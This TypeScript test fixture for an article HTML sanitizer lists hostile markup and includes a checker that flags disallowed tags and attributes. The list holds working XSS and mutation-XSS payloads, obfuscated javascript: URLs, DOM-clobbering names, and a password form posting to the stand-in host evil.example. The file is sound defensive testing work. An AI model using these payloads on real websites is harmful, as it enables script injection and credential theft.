import { allowedValue, articleTags } from '../article-html.ts'

/** HTML that tries to bring something into an article that an article may not hold. */
export const hostileHtml: readonly string[] = [
  // What runs, or asks to be clicked.
  '<script>window.ran = true</script>',
  '<img src=x onerror="window.ran = true">',
  '<p onclick="window.ran = true" onmouseover="window.ran = true">a</p>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="/x">Sign in</button></form>',
  '<select><option>a</option></select><textarea>b</textarea><button>c</button><label for="x">d</label>',
  '<details open ontoggle="window.ran = true"><summary>a</summary></details>',
  '<dialog open>a</dialog><marquee onstart="window.ran = true">b</marquee>',
  // What covers the page, or changes it.
  '<div style="position:fixed;inset:0;z-index:9">over</div>',
  '<p style="position:fixed" class="overlay" id="root" name="body">a</p>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe srcdoc="<script>window.ran = true</script>"></iframe><object data="x"></object><embed src="x">',
  '<video src="x" onerror="window.ran = true"></video><audio src="x"></audio>',
  // What takes a name a script looks up.
  '<img name="body" id="documentElement" src="/uploads/a.webp"><a id="defaultView" name="cookie">a</a>',
  '<form id="forms"><input name="attributes"><input name="parentNode"></form>',
  // Addresses.
  '<a href="javascript:window.ran = true">a</a>',
  '<a href=" \u0001java\nscr\tipt:window.ran = true">a</a>',
  '<a href="&#x6A;avascript&colon;window.ran = true">a</a>',
  '<a href="java\u00adscript:window.ran = true">a</a>',
  '<a href="data:text/html,<script>window.ran = true</script>">a</a>',
  '<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="blob:https://x/1">c</a>',
  '<a href="//evil.example/x">a</a><a href="/\\evil.example">b</a><a href="\\\\evil.example">c</a><a href="/\t/evil.example">d</a>',
  '<a href="/faq" target="_top" rel="opener" download="x.exe" ping="https://evil.example/">a</a>',
  '<blockquote cite="javascript:window.ran = true">a</blockquote>',
  '<img src="//evil.example/x.png"><img src="data:image/svg+xml,<svg onload=x>"><img srcset="x 1x" src="/uploads/../x">',
  // Other languages inside HTML, and markup that changes when it is read twice.
  '<svg><script>window.ran = true</script><a href="javascript:x"><text>a</text></a></svg>',
  '<svg onload="window.ran = true"><foreignObject><p>a</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = true"></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=true>"></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>"></p></noscript>',
  '<template><img src=x onerror="window.ran = true"></template><xmp><p title="</xmp><img src=x onerror=window.ran=true>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=true>',
  '<!--><img src=x onerror=window.ran=true>--><!--[if gte mso 9]><b>a</b><![endif]-->',
  '<p is="x-evil">a</p><x-evil>b</x-evil><slot name="a">c</slot>',
  '<table><td background="javascript:x" style="x">a</td></table><th abbr="x" headers="y">b</th>',
  '<code class="language-js overlay">a</code><ol type="a" start="2" class="x"><li value="3">b</li></ol>',
  // What the studio says to itself.
  '<div data-kept="<form id=kept style=position:fixed><button>a</button></form>">a</div>',
  '<figure data-undescribed="" data-part="THEAD"><img src="/uploads/a.webp" data-x="1" contenteditable="true" tabindex="0"></figure>',
]

const known = new Set<string>(Object.values(articleTags).flat())
const element = /<([a-z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi
const attribute = /([^\s=>/]+)(?:="([^"]*)")?/g

const decoded = (value: string) =>
  value.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&')

/**
 * The elements and attributes of an article that it may not hold.
 * @param html as a browser or the server writes it: names in lower case, values in double quotes
 */
export function whatIsNotAllowed(html: string): string[] {
  const wrong: string[] = []
  for (const [whole, tag = '', attributes = ''] of html.matchAll(element)) {
    if (!known.has(tag)) wrong.push(whole)
    for (const [said, name = '', value = ''] of attributes.trim().matchAll(attribute))
      if (allowedValue(tag, name, decoded(value)) !== decoded(value)) wrong.push(`${tag} ${said}`)
  }
  return wrong
}
